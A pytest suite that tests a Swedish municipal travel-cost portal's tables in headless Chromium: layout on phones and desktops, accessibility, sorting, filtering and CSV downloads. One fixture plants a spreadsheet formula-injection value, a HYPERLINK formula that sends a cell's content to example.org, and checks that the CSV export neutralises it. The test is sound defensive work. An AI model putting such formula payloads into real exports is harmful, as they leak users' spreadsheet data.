"""The portal's tables in headless Chromium on a phone and a desktop: every amount in view,
a visible focus ring on the filter, and a CSV of exactly the rows a filter leaves."""

from __future__ import annotations

import csv
import io
import re
import shutil

import pytest

from conftest import REPO, SAMPLE_DATA, run_portal
from support.browser import format_violations
from support.fixtures import browser  # noqa: F401
from support.siteserver import serve_directory
from test_site_build import PARIS, sample_site  # noqa: F401
from test_site_legible import KINDS, contrast

PAGES = {"start": "", "trips-2016": "resor/2016/", "trip": PARIS, "memberships": "medlemskap/",
         "costs": "kostnader/", "costs-by-body": "kostnader/organ/", "costs-by-category": "kostnader/kategori/",
         "costs-by-country": "kostnader/land/", "comparison": "jamforelse/", "organisation": "organisationer/oecd/",
         "body": "organ/stockholm-kommunstyrelsen/", "person": "personer/karin-wanngard/",
         "membership": "medlemskap/malmo-iclei/"}
WIDTHS = {"phone": (390, 844), "desktop": (1440, 900)}

# Each numeric cell of every table, its box, and the boxes of the ancestors that clip it sideways.
MEASURE = """() => {
  const cells = [...document.querySelectorAll('.portal-table td.portal-num, .portal-table th.portal-num')];
  return {
    page: {scrollWidth: document.documentElement.scrollWidth, width: document.documentElement.clientWidth},
    cells: cells.filter(c => c.closest('tbody, tfoot') && c.getClientRects().length).map(c => {
      const box = c.getBoundingClientRect();
      const clips = [];
      for (let p = c.parentElement; p; p = p.parentElement) {
        const overflow = getComputedStyle(p).overflowX;
        if (overflow !== 'visible') {
          const r = p.getBoundingClientRect();
          clips.push({left: r.left + p.clientLeft, right: r.left + p.clientLeft + p.clientWidth, tag: p.className});
        }
      }
      return {text: c.textContent.trim(), label: c.dataset.label || '', left: box.left, right: box.right, clips};
    }),
  };
}"""


def _outside(cell: dict, width: int) -> str | None:
    if cell["left"] < -0.5 or cell["right"] > width + 0.5:
        return f"outside the viewport ({cell['left']:.0f}–{cell['right']:.0f} of {width})"
    for clip in cell["clips"]:
        if cell["left"] < clip["left"] - 0.5 or cell["right"] > clip["right"] + 0.5:
            return f"clipped by .{clip['tag']} ({clip['left']:.0f}–{clip['right']:.0f})"
    return None


@pytest.fixture(scope="module")
def base_url(sample_site):  # noqa: F811
    with serve_directory(sample_site) as url:
        yield url


@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("name", PAGES)
def test_every_amount_is_in_view_without_scrolling_sideways(browser, base_url, name, width):  # noqa: F811
    with browser.open(f"{base_url}/{PAGES[name]}", viewport=WIDTHS[width]) as visit:
        measured = visit.page.evaluate(MEASURE)
        cells = measured["cells"]
        assert cells, "no amounts measured: the page has no numeric table cells"
        assert any(c["text"].endswith("kr") or "kr (prel.)" in c["text"] or c["text"] == "uppgift saknas" for c in cells)
        hidden = [f"{c['label']} {c['text']!r}: {why}" for c in cells if (why := _outside(c, WIDTHS[width][0]))]
        assert hidden == []
        assert measured["page"]["scrollWidth"] <= measured["page"]["width"], "the page scrolls sideways"
        violations = visit.axe()  # cards or table, the page stays accessible
        assert violations == [], format_violations(violations)


def test_a_table_wider_than_its_columns_suggest_still_shows_its_amounts(browser, base_url):  # noqa: F811
    """A name longer than the column-count bands allow for: the page makes the rows cards itself."""
    long_name = "Stadsbyggnadskontorets" * 4
    with browser.open(f"{base_url}/", viewport=WIDTHS["desktop"]) as visit:
        page = visit.page

        def longer(route):
            html = route.fetch().text().replace(">Kommunstyrelsen</a>", f">{long_name}</a>", 1)
            route.fulfill(body=html, content_type="text/html; charset=utf-8")

        page.route("**/kostnader/organ/", longer)
        page.goto(f"{base_url}/kostnader/organ/")
        assert page.locator(f"text={long_name}").count() == 1
        table = page.locator("table.portal-table").filter(has_text=long_name)
        assert "portal-cards" in table.get_attribute("class")
        hidden = [c["text"] for c in page.evaluate(MEASURE)["cells"] if _outside(c, WIDTHS["desktop"][0])]
        assert hidden == []


def _ax_role(visit, selector: str) -> str:
    """The role Chromium's accessibility tree gives the first element matching `selector`."""
    cdp = visit.context.new_cdp_session(visit.page)
    root = cdp.send("DOM.getDocument", {"depth": 0})["root"]["nodeId"]
    node = cdp.send("DOM.querySelector", {"nodeId": root, "selector": selector})["nodeId"]
    return cdp.send("Accessibility.getPartialAXTree", {"nodeId": node, "fetchRelatives": False})["nodes"][0]["role"]["value"]


@pytest.mark.parametrize("width", WIDTHS)
def test_rows_become_cards_labelled_by_their_column_only_where_they_must(browser, base_url, width):  # noqa: F811
    with browser.open(f"{base_url}/resor/2016/", viewport=WIDTHS[width]) as visit:
        cell = visit.page.locator("table[data-portal-sortable] tbody tr").first.locator("td.portal-num").last
        assert cell.get_attribute("data-label") == "Kostnad"
        style = cell.evaluate("c => [getComputedStyle(c).display, getComputedStyle(c, '::before').display,"
                              " getComputedStyle(c, '::before').content]")
        header = visit.page.locator("table[data-portal-sortable] thead").bounding_box()
        if width == "phone":  # a card: the value under its column's name; the header row out of sight
            assert style == ["flow-root", "block", '"Kostnad"']
            # the value beside its label, not under it: the text starts right of the label's column
            indent = cell.evaluate("c => { const r = document.createRange(); r.selectNodeContents(c);"
                                   " return r.getClientRects()[0].left - c.getBoundingClientRect().left; }")
            assert indent > 100
            assert header["width"] <= 1 and header["height"] <= 1
        else:  # a plain table row
            assert style[:2] == ["table-cell", "none"]
            assert header["width"] > 1
        # A table to assistive technology either way: the cells keep their roles and column headers.
        assert [_ax_role(visit, f"table[data-portal-sortable] {s}") for s in ("", "tbody tr", "tbody td", "thead th")] == \
            ["table", "row", "cell", "columnheader"]


@pytest.mark.parametrize("width", WIDTHS)
def test_filter_has_a_visible_focus_ring(browser, base_url, width):  # noqa: F811
    with browser.open(f"{base_url}/medlemskap/", viewport=WIDTHS[width]) as visit:
        field = visit.page.get_by_label("Filtrera tabellen: Medlemskap")
        unfocused = field.evaluate("e => [getComputedStyle(e).outlineStyle, getComputedStyle(e).boxShadow]")
        visit.page.keyboard.press("Tab")  # keyboard focus somewhere first, as a keyboard user arrives
        field.focus()
        style = field.evaluate("e => { const s = getComputedStyle(e); return {style: s.outlineStyle, "
                               "width: parseFloat(s.outlineWidth), shadow: s.boxShadow, color: s.outlineColor}; }")
        assert style["style"] not in ("none", "") and style["width"] >= 2 or style["shadow"] not in ("none", "")
        assert [style["style"], style["shadow"]] != unfocused
        if style["shadow"] in ("none", ""):  # the ring stands out from the white page (WCAG 1.4.11: 3:1)
            assert contrast(style["color"], "rgb(255, 255, 255)") >= 3


def _csv_rows(path) -> list[list[str]]:
    data = path.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf"), "no byte-order mark, like the bulk CSV"
    assert data.endswith(b"\r\n") and b"\n" not in data.replace(b"\r\n", b""), "CRLF line ends, like the bulk CSV"
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"Klicka")'
HOSTILE_TRIP = "2024-11-lissabon-eurocities-agm"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """The sample data with a trip whose event a spreadsheet would run as a formula."""
    root = tmp_path_factory.mktemp("hostile")
    shutil.copytree(SAMPLE_DATA, root / "data")
    trip = root / "data" / "trips" / "2024" / f"{HOSTILE_TRIP}.yaml"
    text = trip.read_text(encoding="utf-8")
    trip.write_text(re.sub(r"^event: .*$", f"event: '{HOSTILE}'", text, count=1, flags=re.M), encoding="utf-8")
    result = run_portal("build", "--data", str(root / "data"), "--out", str(root / "site"), cwd=REPO)
    assert result.returncode == 0, result.stdout + result.stderr
    return root / "site"


def test_filtered_rows_download_as_csv_like_the_bulk_csv(browser, hostile_site, tmp_path):  # noqa: F811
    with serve_directory(hostile_site) as base_url, browser.open(f"{base_url}/resor/2024/") as visit:
        page = visit.page
        page.get_by_label("Filtrera tabellen: Resor 2024").fill("lissabon")
        rows = page.locator("table[data-portal-sortable] tbody tr:not([hidden])")
        visible = rows.evaluate_all("rs => rs.map(r => ({id: r.dataset.id, "
                                    "cost: r.cells[r.cells.length - 1].dataset.sort}))")
        assert 0 < len(visible) < page.locator("table[data-portal-sortable] tbody tr").count()
        with page.expect_download() as info:
            page.get_by_role("button", name="Ladda ner de visade raderna som CSV").click()
        download = info.value
        assert download.suggested_filename == "resor-2024.csv"
        download.save_as(tmp_path / "rows.csv")
        assert visit.outside_requests() == []
    header, *body = _csv_rows(tmp_path / "rows.csv")
    assert header == ["id", "start_date", "title", "event", "body_id", "participants", "purposes", "municipality_sek"]
    assert [r[0] for r in body] == [v["id"] for v in visible] == [HOSTILE_TRIP]
    assert [float(r[-1]) if r[-1] else None for r in body] == [float(v["cost"]) if v["cost"] else None for v in visible]
    assert body[0][header.index("event")] == "'" + HOSTILE  # made safe as the bulk CSV makes it: never a formula
    # Each column named after a field holds what the bulk download holds for the trip.
    bulk = {r["id"]: r for r in csv.DictReader(io.StringIO(
        (hostile_site / "data" / "latest" / "trips.csv").read_text(encoding="utf-8"), newline=""))}
    shared = [name for name in header if name in bulk[HOSTILE_TRIP]]
    assert shared == ["id", "start_date", "title", "event", "body_id", "purposes"]
    for row in body:
        assert {n: v for n, v in zip(header, row) if n in shared} == {n: bulk[row[0]][n] for n in shared}


def test_every_index_table_offers_its_rows_as_csv(browser, base_url):  # noqa: F811
    for url, name in [("medlemskap/", "medlemskap"), ("avtal/", "avtal"), ("organisationer/", "organisationer"),
                      ("organ/", "organ"), ("personer/", "personer"), ("resor/2016/", "resor-2016")]:
        with browser.open(f"{base_url}/{url}") as visit:
            table = visit.page.locator("table[data-portal-sortable]")
            assert table.get_attribute("data-csv-file") == name
            assert visit.page.get_by_role("button", name="Ladda ner de visade raderna som CSV").count() == 1
            names = table.locator("thead th").evaluate_all("ths => ths.map(th => th.dataset.csv || '')")
            assert "" not in names, url
            ids = table.locator("tbody tr").evaluate_all("rs => rs.map(r => r.dataset.id || '')")
            assert ids and "" not in ids, url


# Every kind of page with a filter (tables.js enhances each table[data-portal-sortable]).
FILTERED = ["trips-year", "memberships", "agreements", "organisations", "bodies", "people", "costs-per-traveller"]
# Each body row of a table: shown on screen or not, where, and what the CSV holds for it (tables.js `csvValue`).
ROWS = """t => [...t.tBodies[0].rows].map(r => ({
  shown: r.checkVisibility() && r.getBoundingClientRect().height > 0, top: r.getBoundingClientRect().top,
  text: r.textContent.toLowerCase(),
  csv: [r.dataset.id || ''].concat([...r.cells].map(c => c.dataset.value ?? c.dataset.sort ?? c.textContent.trim())),
}))"""


def test_every_page_with_a_filter_is_of_a_filtered_kind(sample_site):  # noqa: F811
    patterns = {name: re.compile(KINDS[name][0]) for name in FILTERED}
    seen = set()
    for path in sample_site.rglob("index.html"):
        url = path.parent.relative_to(sample_site).as_posix() + "/"
        if "data-portal-sortable" in path.read_text(encoding="utf-8"):
            kinds = [name for name, pattern in patterns.items() if pattern.fullmatch(url.removeprefix("en/"))]
            assert kinds, f"{url}: a page with a filter of no kind the filter test opens"
            seen.update(kinds)
    assert seen == set(FILTERED)


@pytest.mark.parametrize("language", ["", "en/"])
@pytest.mark.parametrize("kind", FILTERED)
def test_a_filter_shows_only_its_rows_and_saves_those_shown_in_their_order(  # noqa: F811
        browser, base_url, kind, language, tmp_path):  # noqa: F811
    """In table and card layout alike: the rows left out are not on screen, the count says how many are,
    and the CSV of the shown rows holds those rows, sorted as on screen."""
    url = f"{base_url}/{language}{KINDS[kind][1]}"
    filtered = set()
    with browser.open(url, viewport=WIDTHS["phone"]) as visit:
        page = visit.page
        for width in WIDTHS.values():
            page.set_viewport_size({"width": width[0], "height": width[1]})
            visit.goto(url)
            tables = page.locator("table[data-portal-sortable]")
            for i in range(tables.count()):
                table = tables.nth(i)
                rows = table.evaluate(ROWS)
                first = rows[0]["text"].split()
                word = next((w for w in first if any(w not in r["text"] for r in rows)), None)
                if word is None:
                    continue  # one row, or rows alike: nothing a filter could leave out
                page.locator(".portal-filter input").nth(i).fill(word)
                # sorted by the last column, largest first: the CSV must follow the screen's order
                table.locator("thead th").last.locator("button").dispatch_event("click")
                table.locator("thead th").last.locator("button").dispatch_event("click")
                rows = table.evaluate(ROWS)
                shown = sorted((r for r in rows if r["shown"]), key=lambda r: r["top"])
                assert [r["text"] for r in rows if r["shown"]] == [r["text"] for r in rows if word in r["text"]]
                assert 0 < len(shown) < len(rows)
                count = page.locator(".portal-count").nth(i).text_content()
                assert [int(n) for n in re.findall(r"\d+", count)] == [len(shown), len(rows)], count
                with page.expect_download() as info:
                    page.locator(".portal-save").nth(i).click()
                info.value.save_as(tmp_path / "rows.csv")
                header, *saved = _csv_rows(tmp_path / "rows.csv")
                assert "" not in header and len(header) == 1 + table.locator("thead th").count()
                assert saved == [r["csv"] for r in shown]
                filtered.add("cards" if table.evaluate("t => getComputedStyle(t).display") == "block" else "table")
        assert visit.page_errors == []
    assert filtered, "no table on the page has rows a filter could tell apart"


def test_unknown_sorts_last_both_ways_apart_from_zero(browser, base_url):  # noqa: F811
    """A fee that is unknown ("uppgift saknas", data-sort="") is no fee of 0 kr: it goes last either way."""
    with browser.open(f"{base_url}/", viewport=WIDTHS["desktop"]) as visit:
        page = visit.page

        def with_a_zero(route):  # the last unknown fee made a known 0, after other unknowns in the page's order
            html = route.fetch().text()
            unknown = '<td class="portal-num" data-label="Avgifter totalt" data-sort="">uppgift saknas</td>'
            at = html.rindex(unknown)
            html = html[:at] + unknown.replace('data-sort=""', 'data-sort="0.00"').replace("uppgift saknas", "0 kr") + \
                html[at + len(unknown):]
            route.fulfill(body=html, content_type="text/html; charset=utf-8")

        page.route("**/medlemskap/", with_a_zero)
        page.goto(f"{base_url}/medlemskap/")
        table = page.locator("table[data-portal-sortable]")
        column = [th.strip() for th in table.locator("thead th").all_text_contents()].index("Avgifter totalt")
        values = f"t => [...t.tBodies[0].rows].map(r => r.cells[{column}].dataset.sort)"
        before = table.evaluate(values)
        assert "0.00" in before and before.count("") >= 2 and len([v for v in before if v not in ("", "0.00")]) >= 2
        button = table.locator("thead th").nth(column).locator("button")
        for direction in ("ascending", "descending"):
            button.dispatch_event("click")
            assert table.locator("thead th").nth(column).get_attribute("aria-sort") == direction
            after = table.evaluate(values)
            known = sorted((v for v in before if v), key=float, reverse=direction == "descending")
            assert after == known + [""] * before.count(""), direction


@pytest.mark.parametrize("prefix, column, wanted", [("", "Avgifter totalt", "Avgifter totalt, fallande"),
                                                    ("en/", "Total fees", "Total fees, descending")])
def test_cards_sort_by_a_list_a_phone_reader_can_see(browser, base_url, prefix, column, wanted):  # noqa: F811
    """The column headers are hidden from sight in cards: a visible list sorts each column each way, and back."""
    with browser.open(f"{base_url}/{prefix}medlemskap/", viewport=WIDTHS["phone"]) as visit:
        page = visit.page
        table = page.locator("table[data-portal-sortable]")
        assert table.evaluate("t => getComputedStyle(t.tHead).position") == "absolute"  # cards: headers out of sight
        listed = page.locator(".portal-filter select")
        assert listed.is_visible() and page.get_by_label("Sortera efter" if not prefix else "Sort by").count() == 1
        index = [th.strip() for th in table.locator("thead th").all_text_contents()].index(column)
        sorts = f"t => [...t.tBodies[0].rows].map(r => r.cells[{index}].dataset.sort)"
        ids = "t => [...t.tBodies[0].rows].map(r => r.dataset.id)"
        before, first = table.evaluate(sorts), table.evaluate(ids)
        listed.select_option(label=wanted)
        after = table.evaluate(sorts)
        assert after == sorted((v for v in before if v), key=float, reverse=True) + [""] * before.count("")
        assert table.locator("thead th").nth(index).get_attribute("aria-sort") == "descending"
        listed.select_option(index=0)  # the page's order again
        assert table.evaluate(ids) == first and table.locator("thead th[aria-sort]").count() == 0
        assert visit.page_errors == []


@pytest.mark.parametrize("prefix, thousands", [("", "1\u00a0234"), ("en/", "1,234")])
def test_a_number_without_a_sort_value_sorts_by_what_it_says(browser, base_url, prefix, thousands):  # noqa: F811
    """A count written with a thousands separator, as each language writes it, sorts as the whole number."""
    with browser.open(f"{base_url}/{prefix}organisationer/", viewport=WIDTHS["desktop"]) as visit:
        table = visit.page.locator("table[data-portal-sortable]")
        column = table.evaluate("t => [...t.tHead.rows[0].cells].findIndex(th => th.classList.contains('portal-num'))")
        cells = f"t => [...t.tBodies[0].rows].map(r => r.cells[{column}])"
        assert table.evaluate(f"t => ({cells})(t).every(c => !c.hasAttribute('data-sort'))")
        table.evaluate(f"(t, n) => {{ const c = ({cells})(t); c[0].textContent = n; c[1].textContent = '999'; }}", thousands)
        table.locator("thead th").nth(column).locator("button").dispatch_event("click")  # ascending
        shown = table.evaluate(f"t => ({cells})(t).map(c => c.textContent)")
        assert shown.index(thousands) > shown.index("999") and shown[-1] == thousands


def test_currencies_read_by_name_and_english_names_are_marked(sample_site):  # noqa: F811
    paris = (sample_site / PARIS / "index.html").read_text(encoding="utf-8")
    assert 'data-label="Originalbelopp">630,00 euro (kurs 21 november 2016)<' in paris
    assert ">630,00 EUR" not in paris
    eurocities = (sample_site / "medlemskap" / "malmo-eurocities" / "index.html").read_text(encoding="utf-8")
    assert '">Medlemskap: <span lang="en">Eurocities</span> (Malmö stad)</h1>' in eurocities
    year = (sample_site / "resor" / "2024" / "index.html").read_text(encoding="utf-8")
    assert '<span lang="en">EU Green Week 2024</span>' in year
    oecd = (sample_site / "organisationer" / "oecd" / "index.html").read_text(encoding="utf-8")
    assert "\">OECD</h1>" in oecd  # its Swedish name: not marked
    assert '<span lang="en">Organisation for Economic Co-operation and Development (OECD)</span>' in oecd
